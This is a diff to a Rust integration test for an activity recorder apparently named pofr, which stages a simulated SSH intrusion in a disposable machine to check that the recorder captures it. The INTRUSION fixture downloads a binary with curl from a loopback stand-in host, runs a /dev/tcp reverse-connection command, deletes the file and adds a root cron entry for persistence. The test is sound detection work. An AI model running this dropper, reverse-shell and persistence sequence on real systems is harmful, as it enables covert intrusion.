@@ -9,7 +9,7 @@ use pofr_tests::{
 };
 use std::{
     collections::BTreeMap,
-    path::Path,
+    path::{Path, PathBuf},
     time::{Duration, Instant},
 };
 
@@ -79,18 +79,18 @@ while True:
 /// What the intruder does, behind a login by ssh.
 const INTRUSION: &str = r#"
 say shell
-curl -s -o /tmp/.update http://127.0.113.66:8000/update
+curl -s -o /var/tmp/.update http://127.0.113.66:8000/update
 say downloaded
-chmod +x /tmp/.update
-/tmp/.update -c 'exec 3<>/dev/tcp/127.0.113.66/4444; echo hello >&3; for i in 1 2 3 4 5; do sleep 1; done' &
+chmod +x /var/tmp/.update
+/var/tmp/.update -c 'exec 3<>/dev/tcp/127.0.113.66/4444; echo hello >&3; for i in 1 2 3 4 5; do sleep 1; done' &
 say_as dropper $!
 sleep 1
-rm /tmp/.update
+rm /var/tmp/.update
 say removed
 sleep 1
 id > /dev/null
 say id
-echo '* * * * * root /tmp/.update' > /etc/cron.d/update
+echo '* * * * * root /var/tmp/.update' > /etc/cron.d/update
 say cron
 sleep 1
 say middle
@@ -109,17 +109,17 @@ pub(crate) struct Deed {
     pub(crate) at: i64,
 }
 
-/// The machine after it all, its bundles in its spool.
+/// What is left of it all.
 pub(crate) struct Scene {
-    /// The machine.
-    pub(crate) machine: Machine,
+    /// What was recorded.
+    pub(crate) bundles: PathBuf,
     deeds: BTreeMap<String, Deed>,
 }
 
 impl Scene {
-    /// Plays and records it all; `None`, loudly, where no such machine can be made.
-    pub(crate) fn play() -> Option<Self> {
-        let machine = match Machine::start(Kind::Client, &[&program("pofrc"), &program("pofrs")]) {
+    /// Plays and records it all, into a directory in `dir`; `None`, loudly, where no such machine can be made.
+    pub(crate) fn play(dir: &Path) -> Option<Self> {
+        let machine = match Machine::start(Kind::Client, &[&program("pofrc")]) {
             Ok(machine) => machine,
             Err(error) => {
                 eprintln!("SKIPPED: no machine can be made here: {error}");
@@ -127,9 +127,11 @@ impl Scene {
             }
         };
         set_up(&machine);
-        machine.text("pofrc start --detach --interval 100ms --bundle 4s --max-cpu 100% --watch /etc/cron.d --watch /tmp");
+        machine.text("pofrc start --detach --interval 100ms --bundle 4s --max-cpu 100% --watch /etc/cron.d --watch /var/tmp");
         wait(2);
         machine.text("date +%s%6N > /run/before");
+        // A sample or more, so that what comes now was certainly not there then.
+        wait(1);
         machine.text("setsid python3 /root/servers.py > /dev/null 2>&1 &");
         until(&machine, "test -e /run/serving");
         for (user, command) in [
@@ -153,7 +155,10 @@ impl Scene {
             said.push_str(&format!("{mark} 0 {}", machine.text(&format!("cat /run/{mark}"))));
         }
         let deeds = said.lines().filter_map(deed).collect();
-        Some(Self { machine, deeds })
+        // The machine has a /dev/shm of its own; this directory it shares.
+        let bundles = dir.join("bundles");
+        machine.text(&format!("mkdir {0} && cp /dev/shm/pofr/*.tar {0}/", bundles.display()));
+        Some(Self { bundles, deeds })
     }
 
     /// Returns what was done by this name.
@@ -176,7 +181,7 @@ fn set_up(machine: &Machine) {
     machine.write("/root/intrusion.sh", &format!("{SAY}\n{as_another}\n{INTRUSION}"));
     machine.write("/root/servers.py", SERVERS);
     machine.write("/root/probes.py", PROBES);
-    machine.text("touch /run/said && chmod 666 /run/said; mkdir -p /etc/cron.d && chown mallory /etc/cron.d");
+    machine.text("touch /run/said && chmod 666 /run/said; mkdir -p /etc/cron.d; mount -t tmpfs tmpfs /etc/cron.d && mount -t tmpfs tmpfs /var/tmp && chmod 1777 /var/tmp && chown mallory /etc/cron.d");
     machine.text("mkdir -p /home/mallory/.ssh && ssh-keygen -q -N '' -t ed25519 -f /root/key");
     machine.text("cp /root/key.pub /home/mallory/.ssh/authorized_keys && chown -R mallory /home/mallory");
     machine.text("echo 'ListenAddress 127.0.113.1' >> /etc/ssh/sshd_config");
